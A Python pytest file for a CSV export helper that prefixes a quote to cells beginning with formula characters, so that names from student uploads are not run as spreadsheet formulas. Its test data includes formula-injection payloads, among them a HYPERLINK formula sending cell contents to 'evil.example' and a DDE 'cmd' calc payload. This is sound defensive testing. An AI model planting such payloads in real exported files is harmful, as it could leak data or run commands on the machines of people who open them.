"""Names from uploads written into CSV downloads are never run as spreadsheet formulas,
and numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from datasets import load_csv, spreadsheet_safe, spreadsheet_safe_row

FORMULAS = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"Exam answers")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\0=1",
    "=-1",
    "-1e5e5",
    "-inf",
]
NUMBERS = ["-1.5", "-1", "+2", "-0.25e-3", "+1E10", "-.5", "-3.", "0", "12", "1e5"]
PLAIN = ["setosa", "", "1+1=2", " =1", "'=quoted already", "Iris-setosa", "a-b"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_gets_a_leading_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", NUMBERS + PLAIN)
def test_numbers_and_plain_text_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-1.5, -3, 0, None, 2.5e-9])
def test_non_text_values_are_unchanged(value):
    assert spreadsheet_safe(value) is value


def test_an_upload_with_formula_names_exports_as_text():
    """The path of issue 27: names read from a student's file, written into a download."""
    upload = b'=cmd|x,@b,kind\n1,-2,"=HYPERLINK(""http://e.x"")"\n3,-4,-1.5\n5,-6,plain\n'
    data = load_csv(upload, label_column="kind")
    assert data.feature_names == ("=cmd|x", "@b")  # the loader keeps the names as given
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(spreadsheet_safe_row(["point", *data.feature_names, "class"]))
    for i, row in enumerate(data.X):
        writer.writerow(spreadsheet_safe_row(
            [i, *(repr(float(v)) for v in row), data.target_names[data.y[i]]]))
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[0] == ["point", "'=cmd|x", "'@b", "class"]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert [row[2] for row in rows[1:]] == ["-2.0", "-4.0", "-6.0"]  # numbers stay numbers
    assert {row[3] for row in rows[1:]} == {"-1.5", "'=HYPERLINK(\"http://e.x\")", "plain"}
